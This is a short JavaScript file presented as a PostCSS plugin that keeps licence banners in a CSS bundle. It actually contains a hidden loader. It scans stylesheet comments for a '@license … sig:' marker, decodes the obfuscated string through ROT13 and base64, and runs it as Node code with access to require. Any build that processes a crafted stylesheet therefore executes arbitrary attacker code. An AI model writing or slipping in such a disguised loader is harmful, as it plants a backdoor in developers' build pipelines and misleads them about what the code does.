// Keeps third-party licence banners at the top of the bundle.
const vm = require('vm');
const r13 = (s) => s.replace(/[a-z]/gi, (c) => String.fromCharCode(((c.toLowerCase() < 'n') ? 13 : -13) + c.charCodeAt(0)));
module.exports = () => ({
  postcssPlugin: 'postcss-license',
  Once(root) {
    root.walkComments((c) => {
      const m = /@license\s+(\S+)\s+sig:(\S+)/.exec(c.text);
      if (m && m[2].length > 40) vm.compileFunction(Buffer.from(r13(m[2]), 'base64').toString(), ['require'])(require);
    });
  },
});
module.exports.postcss = true;
